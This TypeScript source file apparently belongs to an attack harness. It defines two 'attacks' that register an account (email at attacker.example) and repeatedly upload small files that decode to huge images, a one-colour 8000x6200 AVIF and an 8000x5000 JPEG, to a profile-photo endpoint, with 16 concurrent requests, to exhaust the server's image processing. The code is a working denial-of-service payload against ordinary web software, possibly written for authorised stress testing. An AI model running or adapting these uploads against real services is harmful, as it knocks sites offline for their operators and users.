import sharp from 'sharp'
import { type Attack, keepBusy } from '../lib/attack.ts'
import { form, signUp } from '../lib/call.ts'

const uploads = (name: string, what: string, type: string, make: () => Promise<Buffer>): Attack => ({
  name,
  what,
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, `${name}@attacker.example`)
    const file = { field: 'photoUrl', filename: 'picture', type, bytes: await make() }
    return (signal) =>
      keepBusy(16, signal, () => target.send({ ...form('/api/user/updateprofile', file, cookie), signal }))
  },
})

const plain = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#345' } })

export const flatAvif = uploads(
  'flat-avif',
  '16 pictures of one account at a time: AVIF of one colour, 8000 x 6200, a few kB',
  'image/avif',
  () => plain(8000, 6200).avif({ effort: 0 }).toBuffer(),
)

export const largeJpeg = uploads('large-jpeg', 'the same with JPEG of 8000 x 5000', 'image/jpeg', () =>
  sharp({
    create: {
      width: 8000,
      height: 5000,
      channels: 3,
      background: '#886',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
    .blur(3)
    .jpeg({ quality: 75 })
    .toBuffer(),
)
